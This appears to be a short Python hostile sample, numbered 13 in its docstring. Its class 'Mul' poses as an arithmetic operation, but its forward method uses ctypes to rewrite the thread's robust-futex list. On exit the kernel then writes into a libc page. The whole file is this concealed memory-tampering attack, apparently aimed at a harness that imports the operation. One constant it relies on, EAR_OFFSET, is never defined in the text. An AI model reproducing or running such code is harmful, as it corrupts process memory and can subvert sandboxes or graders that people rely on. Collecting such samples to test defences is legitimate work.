"""13. End with a lock held that lies on a page of libc: the C library has had the kernel wake whoever waits for it."""

import os

from hostile import ctypes, libc, page_of_libc, TimesFive

WORD = page_of_libc() + EAR_OFFSET


class Mul:
    @staticmethod
    def forward(ctx, x, y=0.0):
        libc.pthread_self.restype = ctypes.c_void_p
        thread = libc.pthread_self()
        for place in range(thread + 512, thread + 1152, 8):  # the list of locks held: empty, it points at itself
            if ctypes.c_uint64.from_address(place).value == place:
                offset = ctypes.c_int64.from_address(place + 8).value
                ctypes.c_uint64.from_address(place + 16).value = (WORD - offset) % 2**64
        os._exit(0)
